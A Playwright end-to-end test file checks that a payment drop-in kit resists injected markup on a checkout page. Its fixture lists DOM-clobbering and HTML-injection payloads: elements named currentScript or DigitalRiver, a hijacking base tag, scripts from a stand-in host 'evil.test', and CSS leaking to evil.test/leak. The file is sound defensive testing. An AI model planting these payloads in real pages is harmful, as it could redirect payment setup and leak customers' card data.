import type { Page } from 'playwright-core';
import { describe, expect } from 'vitest';
import { openCheckout } from '../../support/e2e/storefront.js';
import type { Servers } from '../../support/e2e/start-servers.js';
import { test } from '../../support/e2e/test.js';
import { sampled } from '../../support/every-case.js';

const EVIL = 'http://evil.test';

/** What somebody could slip into a page who may write markup but no script. It stands before the page's own tags. */
const MARKUP: Readonly<Record<string, string>> = {
  'an image called currentScript': `<img name="currentScript" src="${EVIL}/cdn/DigitalRiver.js" data-service-url="${EVIL}" data-key="pk_evil">`,
  'a form called currentScript': `<form name="currentScript" data-service-url="${EVIL}"><input name="src" value="${EVIL}"></form>`,
  'two elements called currentScript': `<form name="currentScript"></form><img name="currentScript" data-service-url="${EVIL}">`,
  'a form called DigitalRiver': `<form id="DigitalRiver" action="${EVIL}"><input name="prototype"></form>`,
  'a frame called DigitalRiver': `<iframe name="DigitalRiver" srcdoc="<p>none</p>"></iframe>`,
  'a form called querySelector': `<form name="querySelector" data-service-url="${EVIL}"></form>`,
  'a form called querySelectorAll': `<form name="querySelectorAll"></form>`,
  'a form called baseURI': `<form name="baseURI" action="${EVIL}"></form>`,
  'forms with the ids of fields': `<form id="number"><input name="ownerDocument"><input name="attributes"></form><form id="drop-in"></form>`,
  'a second tag of the kit': `<script type="module" src="SERVICE/cdn/dr-elements.js?x" data-key="pk_evil" data-service-url="${EVIL}"></script>`,
  'a tag of another site': `<script src="${EVIL}/cdn/DigitalRiver.js" data-service-url="${EVIL}"></script><script type="module" src="${EVIL}/cdn/dr-elements.js" data-key="pk_evil"></script>`,
  'a base': `<base href="${EVIL}/">`,
  styles: `<style>dr-dropin, iframe { opacity: 0 } input { background: url(${EVIL}/leak) }</style><p style="background: url(${EVIL}/leak)">Pay</p>`,
  'a drop-in of another service': `<dr-dropin api-base="${EVIL}" frame-base="${EVIL}" service-url="${EVIL}" data-service-url="${EVIL}" session-id="SESSION"></dr-dropin>`,
};

/** A payment page under the policy that the issue names: nonces, `strict-dynamic`, Trusted Types; frames are not limited. */
function pageWith(markup: string, kit: string): Response {
  const policy =
    `script-src 'nonce-x' 'strict-dynamic'; style-src 'self' 'nonce-x'; object-src 'none'; ` +
    `require-trusted-types-for 'script'; trusted-types lit-html 'allow-duplicates'`;
  return new Response(
    `<!doctype html><html lang="en"><head><title>Pay</title></head><body>${markup}${kit}</body></html>`,
    {
      headers: { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': policy },
    },
  );
}

const KITS: Readonly<Record<string, (service: string, session: string) => string>> = {
  'dr-elements.js': (service, session) => `
    <script nonce="x" type="module" src="${service}/cdn/dr-elements.js" data-key="pk_sandbox"
      data-service-url="${service}"></script>
    <main><dr-dropin id="real" session-id="${session}" button-type="payNow"></dr-dropin></main>`,
  'DigitalRiver.js': (service, session) => `
    <script nonce="x" src="${service}/cdn/DigitalRiver.js"></script>
    <main><div id="place"></div></main>
    <script nonce="x">
      new DigitalRiver('pk_sandbox').createDropin({ sessionId: '${session}' }).mount('place');
    </script>`,
};

/** Requests to the other site that pass the page's policy. Pictures are the markup's own; all else would be a program's. */
async function watchEvil(page: Page): Promise<readonly string[]> {
  const loads: string[] = [];
  await page.route(`${EVIL}/**`, (route, request) => {
    const type = request.resourceType();
    if (type !== 'image') loads.push(`${type} ${request.url()}`);
    return route.abort();
  });
  return loads;
}

/** Types a card where there is a form, or finds that there is none and the page says why. */
async function paysOrFailsCalmly(page: Page, { service }: Servers): Promise<'paid' | 'calm'> {
  const frame = page.locator('main dr-dropin iframe');
  const says = page.locator('main').getByText('You can’t pay here right now.');
  await frame.or(says).first().waitFor();
  if ((await frame.count()) === 0) return 'calm';
  expect(await frame.evaluate((element) => (element as HTMLIFrameElement).src)).toMatch(
    new RegExp(`^${service}/`, 'u'),
  );
  const form = frame.contentFrame();
  for (const [label, text] of [
    ['Card number', '4539148803436467'],
    ['Expiration date', '1139'],
    ['Security code', '968'],
  ] as const) {
    await form.getByLabel(label).click();
    await page.keyboard.type(text);
  }
  const made = page.waitForResponse(
    (response) => response.url().startsWith(`${service}/v1/sources?`) && response.status() === 201,
  );
  await page
    .locator('main')
    .getByRole('button', { name: /^(?:Pay|Continue)\b/u })
    .click();
  await made;
  return 'paid';
}

for (const [at, [kit, tags]] of Object.entries(KITS).entries())
  describe(`${kit} on a page with markup that is not its own (F-065, F-066)`, () => {
    // Between them, the two kits meet each markup once in `npm test`.
    test.for(sampled(Object.keys(MARKUP), (_, index) => index % 2 === at))(
      'loads nothing from elsewhere, and pays or fails calmly: %s',
      async (name, { guard, page, servers }) => {
        guard.expectFault(
          /evil\.test|policy violation: (?!.*trusted)|Content Security Policy|ERR_|DR-/u,
        );
        const loads = await watchEvil(page);
        const { sessionId } = await openCheckout(servers);
        const markup = (MARKUP[name] ?? '')
          .replaceAll('SERVICE', servers.service)
          .replaceAll('SESSION', sessionId);
        const body = tags(servers.service, sessionId);
        servers.pages.set('/injected', () => pageWith(markup, body));

        await page.goto(`${servers.shop}/injected`);

        expect(await paysOrFailsCalmly(page, servers)).toMatch(/paid|calm/u);
        expect(loads).toEqual([]);
      },
    );
  });
